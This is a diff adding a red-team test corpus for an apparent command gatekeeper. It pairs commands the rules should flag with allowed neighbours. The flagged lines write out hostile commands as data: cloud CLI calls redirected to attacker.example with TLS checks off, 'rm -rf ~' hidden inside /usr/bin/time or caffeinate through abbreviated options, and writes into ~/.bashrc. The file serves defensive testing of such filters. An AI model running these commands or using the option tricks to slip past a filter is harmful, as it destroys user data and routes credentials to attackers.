@@ -1,0 +1,51 @@
+# Red-team round 5 (issue 3): abbreviated long options, bundled letters and the holes left
+# open by round 4, each with the neighbour that stays allowed. Read by tests/test_corpora.py,
+# NEVER executed.
+
+# -- aws, az and gcloud parse with argparse: any unambiguous prefix is the option ------------
+# ruleid: GK-CLOUD-003
+aws ec2 describe-instances --endpoint=http://attacker.example
+# ruleid: GK-CLOUD-003
+aws ec2 describe-instances --endpoint-u http://attacker.example
+# ruleid: GK-CLOUD-003
+aws s3 ls --deb
+# ruleid: GK-CLOUD-003
+aws s3 ls --ca-b ./ca.pem
+# ruleid: GK-CLOUD-003
+aws s3 ls --no-verify
+# ok: GK-CLOUD-003
+aws ec2 describe-instances --endpoint-url http://localhost:4566 --region eu-west-1
+# ruleid: GK-CLOUD-003
+az pipelines build list --orga https://attacker.example
+# ruleid: GK-CLOUD-003
+az pipelines build list --organ=https://attacker.example
+# ruleid: GK-CLOUD-003
+az vm list --deb
+# ok: GK-CLOUD-003
+az vm list --out table
+# ruleid: GK-CLOUD-003
+gcloud compute instances list --flags=flags.yaml
+# ruleid: GK-CLOUD-003
+gcloud compute instances list --log-h
+# ruleid: GK-CLOUD-003
+gcloud compute instances list --access-token=token.txt
+# ok: GK-CLOUD-003
+gcloud compute instances list --format json
+
+# -- GNU time: `--f` is --format, `-ao F` logs into F; what follows is the command ------------
+# ruleid: GK-BASH-008
+/usr/bin/time --f echo rm -rf ~
+# ruleid: GK-BASH-008
+/usr/bin/time -ao echo rm -rf ~
+# ruleid: GK-PROT-001
+/usr/bin/time -o ~/.bashrc ls
+# ruleid: GK-PROT-001
+/usr/bin/time --outp=~/.bashrc ls
+# ruleid: GK-WRITE-001
+/usr/bin/time -ao /srv/time.log ls
+# ok: GK-WRITE-001
+/usr/bin/time -o time.log ls
+# ruleid: GK-BASH-008
+caffeinate -it echo rm -rf ~
+# ok: GK-BASH-008
+caffeinate -t 5 ls
